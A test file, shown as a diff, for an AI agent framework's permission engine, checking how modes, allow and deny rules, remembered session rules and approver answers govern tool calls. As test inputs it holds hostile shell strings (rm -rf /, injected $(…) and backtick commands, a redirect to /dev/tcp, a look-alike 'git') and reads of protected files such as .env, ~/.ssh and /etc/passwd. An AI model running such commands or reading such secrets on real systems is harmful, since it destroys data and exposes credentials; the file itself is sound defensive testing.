@@ -1,0 +1,593 @@
+"""permissions.py: what runs, what is asked about, and what never runs."""
+
+from __future__ import annotations
+
+import functools
+import pickle
+from collections.abc import Iterable, Sequence
+from pathlib import Path
+from typing import Annotated, Any, NamedTuple
+
+import pytest
+from hypothesis import given, strategies as st
+from pydantic import AfterValidator, BaseModel, Field, PlainSerializer, SecretStr
+
+from toolcast.agents.engine.engine import Engine
+from toolcast.agents.permissions.permissions import AtLeast, Decision, OneOf, Permissions, Rule, Under, settled
+from toolcast.approvals import Answer, PermissionRequest
+from toolcast.messages import ToolCallPart, ToolResultPart
+from toolcast.testing import ScriptedLLM
+from toolcast.tools.callable_tool import CallableTool
+
+
+class Facts(NamedTuple):
+    name: str
+    read_only: bool = False
+    destructive: bool = False
+    path_parameters: frozenset[str] = frozenset()
+
+
+BASH = Facts("bash")
+P = frozenset({"x"})
+KINDS = {
+    "reads": Facts("look_up", read_only=True),
+    "edits": Facts("fs_write"),
+    "deletes": Facts("fs_delete", destructive=True),
+    "other": Facts("send_mail"),
+}
+
+
+def approve(request: PermissionRequest) -> bool:
+    raise AssertionError("deciding does not ask")
+
+
+def verdict(permissions: Permissions, facts: Facts, arguments: Any = None, remembered: Sequence[Rule] = ()) -> str:
+    return permissions.decide(facts, {} if arguments is None else arguments, remembered).verdict
+
+
+# Every mode and kind of tool, without a rule, with an allow rule, with a deny rule; "ask" is "deny" without approver.
+MATRIX = """
+mode          kind      none   allow  deny
+default       reads     ask    allow  deny
+default       edits     ask    allow  deny
+default       deletes   ask    allow  deny
+default       other     ask    allow  deny
+accept_edits  reads     allow  allow  deny
+accept_edits  edits     allow  allow  deny
+accept_edits  deletes   ask    allow  deny
+accept_edits  other     ask    allow  deny
+auto          reads     allow  allow  deny
+auto          edits     ask    allow  deny
+auto          deletes   ask    allow  deny
+auto          other     ask    allow  deny
+bypass        reads     allow  allow  deny
+bypass        edits     allow  allow  deny
+bypass        deletes   allow  allow  deny
+bypass        other     allow  allow  deny
+plan          reads     allow  allow  deny
+plan          edits     deny   deny   deny
+plan          deletes   deny   deny   deny
+plan          other     deny   deny   deny
+deny          reads     deny   deny   deny
+deny          edits     deny   deny   deny
+deny          deletes   deny   deny   deny
+deny          other     deny   deny   deny
+"""
+ROWS = [line.split() for line in MATRIX.strip().splitlines()[1:]]
+
+
+@pytest.mark.parametrize(("mode", "kind", "none", "allow", "deny"), ROWS)
+def test_the_matrix(mode: Any, kind: str, none: str, allow: str, deny: str) -> None:
+    facts = KINDS[kind]
+    both = [Rule(facts.name, "allow"), Rule(facts.name, "deny")]
+    for rules, expected in (([], none), (both[:1], allow), (both[1:], deny), (both, deny)):
+        for asked in (approve, "later"):
+            with_approver: Any = asked
+            assert verdict(Permissions(mode, rules, with_approver), facts) == expected
+        alone = "deny" if expected == "ask" else expected
+        assert verdict(Permissions(mode, rules), facts) == alone
+        assert verdict(Permissions(mode, rules, approve).without_prompt(), facts) == alone
+        assert verdict(Permissions(mode, [], approve), facts, remembered=rules) == expected
+
+
+def test_the_matrix_has_every_mode_and_kind() -> None:
+    modes = ("default", "accept_edits", "bypass", "deny", "plan", "auto")
+    assert sorted((mode, kind) for mode, kind, *_ in ROWS) == sorted((mode, kind) for mode in modes for kind in KINDS)
+
+
+def test_what_reads_and_destroys_does_not_only_read() -> None:
+    odd = Facts("fs_odd", read_only=True, destructive=True)
+    assert [verdict(Permissions(mode), odd) for mode in ("plan", "auto", "accept_edits")] == ["deny"] * 3  # type: ignore[arg-type]  # they are modes
+
+
+REASONS = [
+    (Permissions(), {}, "send_mail needs an approval, and there is no approver to ask"),
+    (Permissions(approve="later"), {}, "no rule allows send_mail to run without an approval"),
+    (Permissions("deny"), {}, "the mode deny lets no tool run"),
+    (Permissions("plan"), {}, "the mode plan lets only tools run that change nothing, and send_mail may"),
+    (Permissions("bypass"), {}, "the mode bypass lets every tool run"),
+    (Permissions("bypass"), {"path": "a/.env"}, "the path 'a/.env' is protected"),
+    (Permissions("bypass"), [], "the arguments of send_mail are no object"),
+    (Permissions(rules=[Rule("send_*", "allow")]), {}, "allowed by the rule (allow send_*)"),
+    (Permissions(rules=[Rule("*", "deny")]), {}, "denied by the rule (deny *)"),
+    (
+        Permissions(rules=[Rule("*", "deny", {"n": AtLeast(3)})]),
+        {},
+        "denied by the rule (deny * where n is AtLeast(limit=3)), as the arguments do not show that it does not apply",
+    ),
+]
+
+
+@pytest.mark.parametrize(("permissions", "arguments", "reason"), REASONS)
+def test_the_reason_is_said(permissions: Permissions, arguments: Any, reason: str) -> None:
+    assert permissions.decide(KINDS["other"], arguments).reason == reason
+
+
+def test_the_reason_of_a_mode_that_lets_run() -> None:
+    assert Permissions("auto").decide(KINDS["reads"], {}) == Decision("allow", "the mode auto lets look_up run")
+
+
+def test_rules_with_conditions() -> None:
+    rules = [Rule("pay", "allow", {"to": "shop-*", "amount": OneOf(1, 2)}), Rule("pay", "deny", {"to": "*-evil"})]
+    permissions = Permissions(rules=rules, approve=approve)
+    pay = Facts("pay")
+    assert verdict(permissions, pay, {"to": "shop-a", "amount": 1}) == "allow"
+    assert verdict(permissions, pay, {"to": "shop-a", "amount": 3}) == "ask"
+    assert verdict(permissions, pay, {"to": "shop-a", "amount": "1"}) == "ask"
+    assert verdict(permissions, pay, {"to": "shop-a"}) == "ask"
+    assert verdict(permissions, pay, {"to": "shop-evil", "amount": 1}) == "deny"
+    assert verdict(permissions, pay, {"amount": 1}) == "deny"  # who knows whom the tool pays then
+
+
+def test_a_deny_rule_beats_what_a_session_remembers() -> None:
+    permissions = Permissions("bypass", [Rule("pay", "deny")])
+    assert verdict(permissions, Facts("pay"), {}, [Rule("pay", "allow")]) == "deny"
+
+
+@pytest.mark.parametrize("mode", ["default", "auto", "accept_edits"])
+def test_the_question_names_no_mode_as_an_application_may_have_modes_of_its_own(mode: Any) -> None:
+    decision = Permissions(mode, approve=approve).decide(Facts("edit_file"), {})
+    assert decision == Decision("ask", "no rule allows edit_file to run without an approval")
+
+
+# Shells. E8: what an allow rule for git does not let run.
+
+
+GIT = Permissions(rules=[Rule("bash", "allow", {"command": "git"})], approve=approve)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        *("git", "git status -s", "git status && git push", "git a | git b", "git a $(git c)", "(git a)", "{ git a; }"),
+        *("if git a; then git b; fi", "git a 2>&1 >/dev/null", 'g"i"t a', "git \\\n a", "git a # ; rm", "git a\n"),
+        *("git commit -F - <<EOF\nrm -rf /\nEOF", "git commit -m 'a; rm -rf /'", "git log $X"),
+    ],
+)
+def test_a_command_that_a_rule_covers_runs(command: str) -> None:
+    assert GIT.decide(BASH, {"command": command}) == Decision("allow", "allowed by the rules for git")
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        *("git status && rm -rf /", "git status | sh", "git $(rm -rf /)", "git `rm x`", "git a\nrm b", "git a; rm b"),
+        *("git a & rm b", "git a || rm b", "git <(rm a)", 'git "$(rm a)"', "(rm a; git b)", "{ git a; rm b; }"),
+        *("if git a; then rm b; fi", "while rm a; do git b; done", "git a > file", "git a >> file", "git a &> file"),
+        *("git a < file", "(git a) > file", "X=1 git a", "GIT_SSH_COMMAND=rm git fetch", "PATH=. git", "X=git"),
+        *("env git a", "sudo git a", "command git a", "eval git a", "sh -c 'git a'", "$X a", "$(git a) b", "g?t a"),
+        *(
+            "./git a",
+            "gitk",
+            "gіt a",
+            "alias git=rm\ngit a",
+            "git a <<EOF\n$(rm b)\nEOF",
+            "for PATH in .; do git a; done",
+        ),
+        *("", "# nothing", "git a > /dev/tcp/1.2.3.4/5"),
+    ],
+)
+def test_a_command_that_no_rule_covers_is_asked_about(command: str) -> None:
+    assert verdict(GIT, BASH, {"command": command}) == "ask"
+
+
+@pytest.mark.parametrize(
+    "command", ["git '", "git a\r\nrm b", "git\0", "git() { rm; }", "case a in a) git;; esac", "git $'a'"]
+)
+def test_a_command_that_cannot_be_read_is_denied(command: str) -> None:
+    for permissions in (GIT, Permissions("bypass"), Permissions("bypass", [Rule("*", "allow")])):
+        decision = permissions.decide(BASH, {"command": command})
+        assert decision.verdict == "deny"
+        assert decision.reason.startswith("the command cannot be read with certainty: ")
+
+
+@pytest.mark.parametrize("arguments", [{}, {"command": None}, {"command": ["git", 1]}, {"line": "git"}])
+def test_a_shell_without_a_command_is_denied(arguments: Any) -> None:
+    decision = Permissions("bypass").decide(BASH, arguments)
+    said = "bash is a shell tool, and has no text in its argument 'command'; if it is none, not_shells names it"
+    assert decision == Decision("deny", said)
+
+
+def test_allow_rules_cover_a_command_together() -> None:
+    rules = [Rule("bash", "allow", {"command": "git"}), Rule("ba*", "allow", {"command": "ls"})]
+    assert verdict(Permissions(rules=rules), BASH, {"command": "git a && ls"}) == "allow"
+    assert verdict(Permissions(rules=rules[:1]), BASH, {"command": "git a && ls"}) == "deny"
+    rules = [Rule("bash", "allow", {"command": "git", "timeout": 3})]
+    assert verdict(Permissions(rules=rules), BASH, {"command": "git a", "timeout": 3}) == "allow"
+    assert verdict(Permissions(rules=rules), BASH, {"command": "git a", "timeout": 4}) == "deny"
+
+
+def test_a_rule_for_the_shell_itself_covers_every_command() -> None:
+    assert verdict(Permissions(rules=[Rule("bash", "allow")]), BASH, {"command": "X=1 a > b; c"}) == "allow"
+
+
+@pytest.mark.parametrize(
+    "command", ["rm a", "git a; rm b", "git $(rm a)", "sh -c 'rm a'", "sudo rm a", "$X a", "/bin/rm a"]
+)
+def test_a_deny_rule_hits_a_line_by_any_of_its_commands(command: str) -> None:
+    permissions = Permissions("bypass", [Rule("bash", "deny", {"command": "rm"}), Rule("bash", "allow")])
+    assert verdict(permissions, BASH, {"command": command}) == "deny"
+    assert verdict(permissions, BASH, {"command": "git a"}) == "allow"
+
+
+SHELLS = ["Bash", "BASH", "local_bash", "server-bash", "LocalBash", "a.shell", "mcp__host__shell", "x_sh", "Terminal"]
+ARGUMENTS = ["command", "cmd", "Command", "command_line", "shellCommand"]
+
+
+@pytest.mark.parametrize(
+    ("name", "argument"),
+    [
+        *((name, "command") for name in SHELLS),
+        *((name, argument) for name in ("execute_command", "run", "hands") for argument in ARGUMENTS),
+        *((name, argument) for name in ("Bash", "my_bash") for argument in ("script", "code", "input")),
+    ],
+)
+def test_a_shell_is_known_by_its_name_or_by_its_command(name: str, argument: str) -> None:
+    shell, git = Facts(name), [Rule(name, "allow", {argument: "git *"})]
+    assert verdict(Permissions(rules=git), shell, {argument: "git status"}) == "allow"
+    assert verdict(Permissions(rules=git), shell, {argument: "git status && rm -rf /"}) == "deny"
+    bypass = Permissions("bypass", [Rule("*", "deny", {argument: "rm"})])
+    assert verdict(bypass, shell, {argument: "ls"}) == "allow"
+    assert verdict(bypass, shell, {argument: "cat .env"}) == "deny"
+    assert verdict(bypass, shell, {argument: "git a; sudo rm x"}) == "deny"
+    assert verdict(bypass, shell, {argument: "git '"}) == "deny"
+
+
+def test_a_rule_says_command_whatever_the_argument_is_called() -> None:
+    permissions = Permissions("bypass", [Rule("*", "deny", {"command": "rm"})])
+    assert verdict(permissions, Facts("run"), {"cmd": "rm x"}) == "deny"
+    assert verdict(permissions, Facts("run"), {"cmd": "ls"}) == "allow"
+
+
+def test_a_command_may_be_words_and_have_words_in_another_argument() -> None:
+    permissions = Permissions("bypass", [Rule("run", "deny", {"command": "git push"})])
+    run = Facts("run")
+    for arguments in ({"command": ["git", "push"]}, {"command": "git", "args": ["push"]}, {"command": ["cat", ".env"]}):
+        assert verdict(permissions, run, arguments) == "deny"
+    assert verdict(permissions, run, {"command": ["sh", "-c", "git push"]}) == "deny"
+    assert verdict(permissions, run, {"command": "cat", "args": ["a/.env"]}) == "deny"
+    assert verdict(permissions, run, {"command": "git", "args": ["fetch; git push"]}) == "allow"
+    assert verdict(Permissions("bypass"), run, {"command": 3}) == "allow"
+
+
+def test_what_is_no_shell_can_be_said() -> None:
+    rules = [Rule("machine", "allow", {"command": "g*"})]
+    machine = Facts("machine")
+    assert verdict(Permissions(rules=rules), machine, {"command": "go left (slowly"}) == "deny"
+    permissions = Permissions(rules=rules, not_shells=["mach*"])
+    assert verdict(permissions, machine, {"command": "go left (slowly"}) == "allow"
+    assert permissions.rule_for_session(machine, {"command": "go"}) == Rule("machine", "allow")
+    assert verdict(Permissions("bypass", shell_tools=["robot"]), Facts("robot"), {"x": 1}) == "deny"
+
+
+def test_a_text_that_is_too_long_is_denied() -> None:
+    permissions = Permissions("bypass", [Rule("bash", "deny", {"command": "rm"})])
+    assert permissions.decide(KINDS["edits"], {"path": "a/" * 100_000}).reason.startswith("a path is longer than 16384")
+    assert "it is longer than 16384 signs" in permissions.decide(BASH, {"command": "a;" * 100_000}).reason
+    content = {"files": {"a.py": "x" * 20_000}}
+    assert verdict(Permissions("bypass"), KINDS["edits"], content) == "allow"
+
+
+# Rules over paths. A glob is for where the path leads.
+
+
+@pytest.mark.parametrize(
+    ("glob", "path", "allowed", "denied"),
+    [
+        ("/workspace/*", "/workspace/a/b", "allow", "deny"),
+        ("/workspace/*", "/workspace/../etc/passwd", "deny", "deny"),
+        ("/workspace/*", "a", "allow", "deny"),
+        ("/workspace/*", "../a", "deny", "allow"),
+        ("/workspace/*", "$X/a", "deny", "deny"),
+        ("/workspace/*", "~", "deny", "deny"),
+        ("/workspace/*", "a\0", "deny", "deny"),
+        ("/etc/*", "/tmp/../etc/passwd", "allow", "deny"),
+        ("/etc/passwd", "/etc/./passwd", "allow", "deny"),
+        ("/etc/*", "/etcetera", "deny", "allow"),
+        ("/*", "/etc", "allow", "deny"),
+        ("src/*", "src/a", "allow", "deny"),
+        ("src/*", "src/../a", "deny", "deny"),
+        ("src*", "src2/a", "allow", "deny"),
+        ("src*", "/src2/a", "deny", "allow"),
+        ("*.py", "/etc/a.py", "allow", "deny"),
+        ("notes.txt", "x/../notes.txt", "allow", "deny"),
+    ],
+)
+def test_a_glob_is_compared_with_where_a_path_leads(glob: str, path: str, allowed: str, denied: str) -> None:
+    for facts, name in ((KINDS["edits"], "path"), (KINDS["edits"], "o.path"), (Facts("t", False, False, P), "x")):
+        arguments = {"o": {"path": path}} if "." in name else {name: path}
+        allow = Permissions(rules=[Rule("*", "allow", {name: glob})], root="/workspace")
+        deny = Permissions("bypass", [Rule("*", "deny", {name: glob})], root="/workspace")
+        assert verdict(allow, facts, arguments) == allowed
+        assert verdict(deny, facts, arguments) == denied
+    typed = Permissions(rules=[Rule("*", "allow", {"x": glob})], root="/workspace")
+    assert verdict(typed, Facts("t"), {"x": Path(path)}) == allowed
+
+
+def test_a_glob_for_a_path_says_nothing_of_a_list() -> None:
+    permissions = Permissions(rules=[Rule("*", "allow", {"paths": "/a/*"})])
+    assert verdict(permissions, KINDS["edits"], {"paths": ["/a/b"]}) == "deny"
+
+
+def test_a_tool_is_told_whether_a_tilde_is_a_folder(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("HOME", "/home/a")
+    permissions = Permissions(rules=[Rule("*", "allow", {"path": "/workspace/*"})], root="/workspace")
+    assert verdict(permissions, KINDS["edits"], {"path": "~/x"}) == "deny"
+    under = Permissions(rules=[Rule("*", "allow", {"path": Under("sub")})], root="/workspace")
+    assert verdict(under, KINDS["edits"], {"path": "sub/x"}) == "allow"
+    assert verdict(under, KINDS["edits"], {"path": "x"}) == "deny"
+
+
+# Safety. E6: it beats bypass, and looks at paths alone.
+
+
+@pytest.mark.parametrize(
+    ("facts", "arguments"),
+    [
+        (KINDS["reads"], {"path": "a/../.env"}),
+        *((KINDS["edits"], {"files": files}) for files in ({".env": "X"}, {Path(".env"): "X"}, {"a": [{".env": 1}]})),
+        *((KINDS["other"], {"name": path}) for path in (Path(".env"), [Path("a/.env")], {Path(".env"): 1})),
+        *((KINDS["edits"], {"path": path}) for path in (b".env", SecretStr(".env"))),
+        *((KINDS["edits"], {name: ".env"}) for name in ("file_name", "dir_name", "pathName", "path1", "workdir", "wd")),
+        (KINDS["edits"], {"edits": [{"file_path": "~/.ssh/config", "content": "x"}]}),
+        (Facts("odd", path_parameters=frozenset({"x"})), {"x": [".git/config"]}),
+        (KINDS["other"], {"url": "file:///home/a/id_rsa"}),
+        *((BASH, {"command": text}) for text in ("cat .env", "cat <.env", "a >.git/x", "a --b=.env", "X=.env a")),
+        *(
+            (BASH, {"command": text})
+            for text in ("cat .e*", "cat .[[:alpha:]]nv", "cat .e''nv", "sh -c 'cat .env'", "a <<< .env", "a $(b .env)")
+        ),
+        (BASH, {"command": "ls", "cwd": "~/.ssh"}),
+    ],
+)
+def test_protected_paths_beat_everything(facts: Facts, arguments: dict[str, Any]) -> None:
+    for permissions in (Permissions("bypass", approve=approve), Permissions(rules=[Rule("*", "allow")])):
+        decision = permissions.decide(facts, arguments, [Rule("*", "allow")])
+        assert decision.verdict == "deny"
+        assert "is protected" in decision.reason
+
+
+@pytest.mark.parametrize(
+    ("facts", "arguments"),
+    [
+        (KINDS["edits"], {"path": "a.py", "content": "os.environ, .env, ~/.ssh"}),
+        (KINDS["edits"], {"path": ".env.example", "content": ""}),
+        (KINDS["other"], {"text": "see .env"}),
+        (KINDS["other"], {"from": 1, "to": None}),
+        (BASH, {"command": "python -c 'import os; os.environ'"}),
+        (BASH, {"command": "git commit -m 'ignore .env'"}),
+        (BASH, {"command": "cat <<E\n.env\nE"}),
+        (BASH, {"command": 'curl -d \'{"a": {}, "b": [1, 2]}\' localhost'}),
+        (Facts("agent"), {"path": ".env"}),
+        (Facts("spawn_elves"), {"path": ".env"}),
+    ],
+)
+def test_what_only_speaks_of_them_is_no_path(facts: Facts, arguments: dict[str, Any]) -> None:
+    assert verdict(Permissions("bypass"), facts, arguments) == "allow"
+
+
+def test_paths_begin_at_the_root(tmp_path: Path) -> None:
+    (tmp_path / ".ssh").mkdir()
+    (tmp_path / "keys").symlink_to(".ssh")
+    reads = KINDS["reads"]
+    assert verdict(Permissions("bypass", root=str(tmp_path)), reads, {"path": "keys"}) == "deny"
+    assert verdict(Permissions("bypass"), reads, {"path": "keys"}) == "allow"
+    assert verdict(Permissions("bypass", root=str(tmp_path / "keys")), reads, {"path": "a"}) == "deny"
+    assert verdict(Permissions("bypass", root=str(tmp_path / "keys")), reads, {"x": "a"}) == "allow"
+
+
+def test_names_and_globs_are_a_choice() -> None:
+    permissions = Permissions("accept_edits", protected=["secret*"], exempt=["trusted"], file_tools=["disk_*"])
+    assert verdict(permissions, Facts("disk_write"), {"path": ".env"}) == "allow"
+    assert verdict(permissions, Facts("disk_write"), {"path": "secret.txt"}) == "deny"
+    assert verdict(permissions, Facts("trusted", read_only=True), {"path": "secret.txt"}) == "allow"
+    assert verdict(permissions, Facts("fs_write"), {"path": "a"}) == "deny"
+
+
+# What is judged is what the tool gets. Through an engine, with the arguments that a model writes.
+
+
+class Edit(BaseModel):
+    path: str = Field("", exclude=True)
+    file: Annotated[str, PlainSerializer(lambda _: "a")] = ""
+
+
+def as_path(text: str) -> Path:
+    return Path(text)
+
+
+class Broken(BaseModel):
+    file: Annotated[str, PlainSerializer(lambda _: 1 / 0)]
+
+
+def by_name(files: dict[str, str]) -> None: ...
+def by_path(files: dict[Path, str]) -> None: ...
+def in_bytes(path: bytes) -> None: ...
+def in_secret(path: SecretStr) -> None: ...
+def in_model(edit: Edit) -> None: ...
+def in_broken(edit: Broken) -> None: ...
+def in_type(name: Annotated[str, AfterValidator(as_path)]) -> None: ...
+def in_lines(path: Iterable[str]) -> None: ...
+def in_word(file_name: str) -> None: ...
+def in_command(cmd: str) -> None: ...
+
+
+def told(function: Any, arguments: str, permissions: Permissions | None = None) -> str:
+    """What the model is told of its call; `ran` if it ran."""
+    ran = functools.wraps(function)(lambda **_: "ran")
+    llm = ScriptedLLM(ToolCallPart("1", function.__name__, arguments), "Done.")
+    engine = Engine(llm, [CallableTool.from_function(ran)], permissions=permissions)
+    assert engine.submit("Go").text == "Done."
+    part = engine.history[2].parts[0]
+    assert isinstance(part, ToolResultPart)
+    return part.content
+
+
+@pytest.mark.parametrize(
+    ("function", "arguments"),
+    [
+        (by_name, '{"files": {"%s": "X"}}'),
+        (by_path, '{"files": {"%s": "X"}}'),
+        (in_bytes, '{"path": "%s"}'),
+        (in_secret, '{"path": "%s"}'),
+        (in_model, '{"edit": {"path": "%s"}}'),
+        (in_model, '{"edit": {"file": "%s"}}'),
+        (in_broken, '{"edit": {"file": "%s"}}'),
+        (in_type, '{"name": "%s"}'),
+        (in_word, '{"file_name": "%s"}'),
+        (in_command, '{"cmd": "cat %s"}'),
+        (in_command, "{cmd: 'cat %s',}"),  # read leniently
+        (in_broken, "{edit: {file: '%s'},}"),
+    ],
+)
+def test_what_a_tool_gets_is_judged(function: Any, arguments: str) -> None:
+    assert told(function, arguments.replace("%s", "a.py")) == "ran"
+    for permissions in (None, Permissions("bypass", [Rule("*", "allow")])):
+        assert "is protected" in told(function, arguments.replace("%s", ".env"), permissions)
+
+
+@pytest.mark.parametrize("arguments", ['{"path": ["%s"]}', "{path: ['%s'],}"])
+def test_what_is_iterated_is_judged_as_the_list_that_it_is(arguments: str) -> None:
+    assert told(in_lines, arguments.replace("%s", "a")) == "ran"
+    assert "is protected" in told(in_lines, arguments.replace("%s", ".env"))
+
+
+def in_iterator(path: Annotated[list[str], AfterValidator(iter)]) -> None: ...
+
+
+def test_what_cannot_be_looked_at_is_denied() -> None:
+    assert "permission denied: an argument is 'list_iterator'" in told(in_iterator, '{"path": ["a"]}')
+
+
+def test_conditions_look_at_what_the_tool_gets() -> None:
+    for function, where in ((in_secret, {"path": "a*"}), (in_bytes, {"path": "a*"}), (in_model, {"edit.file": "b*"})):
+        arguments = '{"edit": {"file": "b"}}' if function is in_model else '{"path": "a"}'
+        where = {name: f"{Path.cwd()}/{glob}" for name, glob in where.items()}
+        assert told(function, arguments, Permissions(rules=[Rule("*", "allow", where)])) == "ran"
+        assert "denied by" in told(function, arguments, Permissions("bypass", [Rule("*", "deny", where)]))
+
+
+# What a session remembers.
+
+
+def test_a_session_remembers_a_tool() -> None:
+    permissions = Permissions(approve=approve)
+    rule = permissions.rule_for_session(Facts("odd[1]*"), {"x": 1})
+    assert verdict(permissions, Facts("odd[1]*"), {"x": 2}, [rule]) == "allow"
+    assert verdict(permissions, Facts("odd1"), {"x": 1}, [rule]) == "ask"
+
+
+def test_a_session_remembers_exactly_this_command() -> None:
+    permissions = Permissions(approve=approve)
+    rule = Rule.from_dict(permissions.rule_for_session(BASH, {"command": "make * && X=1 ls > f"}).to_dict())
+    assert verdict(permissions, BASH, {"command": "make * && X=1 ls > f"}, [rule]) == "allow"
+    for other in ("make a && X=1 ls > f", "make *", "make * && X=1 ls > f ", "ls"):
+        assert verdict(permissions, BASH, {"command": other}, [rule]) == "ask"
+    nothing = permissions.rule_for_session(BASH, {})
+    assert verdict(permissions, BASH, {"command": ""}, [nothing]) == "ask"
+
+
+def test_a_session_remembers_all_that_a_command_runs_with() -> None:
+    permissions = Permissions(approve=approve)
+    given = {"command": "make", "cwd": "a", "env": {"X": "1"}, "n": 1}
+    for facts in (BASH, Facts("run")):
+        rule = Rule.from_dict(permissions.rule_for_session(facts, given).to_dict())
+        assert verdict(permissions, facts, {**given, "env": {"X": "1"}}, [rule]) == "allow"
+        for changed in ({"cwd": "b"}, {"env": {"X": "2"}}, {"n": True}, {"more": 1}, {"command": "make x"}):
+            assert verdict(permissions, facts, {**given, **changed}, [rule]) == "ask"
+        assert verdict(permissions, facts, {"command": "make"}, [rule]) == "ask"
+    nothing = permissions.rule_for_session(Facts("run"), {"command": None})
+    assert verdict(permissions, Facts("run"), {"command": "ls"}, [nothing]) == "ask"
+
+
+# What an approver says.
+
+
+REQUEST = PermissionRequest("c1", "pay", '{"to": "a"}')
+CHANGED = PermissionRequest("c1", "pay", '{"to": "b"}')
+RENAMED = PermissionRequest("c2", "pay", '{"to": "a"}')
+
+
+@pytest.mark.parametrize(
+    "answer", [REQUEST.allow(), REQUEST.deny("no"), REQUEST.allow_session(), REQUEST.edit({"to": "b"})]
+)
+def test_an_answer_to_the_request_stands(answer: Answer) -> None:
+    assert settled(REQUEST, answer) is answer
+
+
+def test_plain_words_are_answers() -> None:
+    assert settled(REQUEST, True) == REQUEST.allow()
+    assert settled(REQUEST, False) == settled(REQUEST, None) == REQUEST.deny("it was not approved")
+
+
+@pytest.mark.parametrize(
+    "said", [1, "yes", "allow", {}, object(), CHANGED.allow(), RENAMED.allow(), CHANGED.edit("{}")]
+)
+def test_anything_else_denies(said: object) -> None:
+    answer = settled(REQUEST, said)
+    assert (answer.action, answer.fingerprint) == ("deny", REQUEST.fingerprint)
+    assert answer.reason
+
+
+# What Permissions are.
+
+
+@pytest.mark.parametrize(
+    ("options", "said"),
+    [
+        ({"mode": "yolo"}, "the modes are: default, accept_edits, bypass, deny, plan, auto"),
+        ({"rules": Rule("a", "allow")}, "rules are a list of Rule"),
+        ({"rules": ["a"]}, "rules are a list of Rule"),
+        ({"approve": True}, "a function of the request, 'later' or None"),
+        ({"approve": "ask"}, "a function of the request, 'later' or None"),
+        ({"shell_tools": "bash"}, "shell_tools is a list of texts"),
+        ({"protected": ".env"}, "protected is a list of texts"),
+    ],
+)
+def test_wrong_permissions_are_refused(options: dict[str, Any], said: str) -> None:
+    with pytest.raises(ValueError, match=said):
+        Permissions(**options)
+
+
+def test_permissions_are_values() -> None:
+    rules = [Rule("a", "allow", {"path": Under("/a")})]
+    permissions = Permissions("plan", rules, "later", protected=["x"], root="/")
+    rules.clear()
+    assert len(permissions.rules) == 1
+    assert pickle.loads(pickle.dumps(permissions)) == permissions
+    assert permissions.without_prompt() == Permissions("plan", permissions.rules, protected=["x"], root="/")
+
+
+JSON = st.recursive(
+    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=8),
+    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.sampled_from(["path", "to", "x", "command"]), inner),
+    max_leaves=8,
+)
+
+
+@given(JSON, st.sampled_from(["bypass", "default", "auto"]), st.sampled_from(["bash", "fs_x", "y"]))
+def test_any_arguments_are_decided_on(arguments: Any, mode: Any, name: str) -> None:
+    rules = [Rule("*", "deny", {"x": AtLeast(3), "to": Under("/etc")}), Rule("*", "allow", {"command": "a*"})]
+    decision = Permissions(mode, rules, approve).decide(Facts(name), arguments)
+    assert decision.verdict in ("allow", "deny", "ask")
+    assert decision.reason
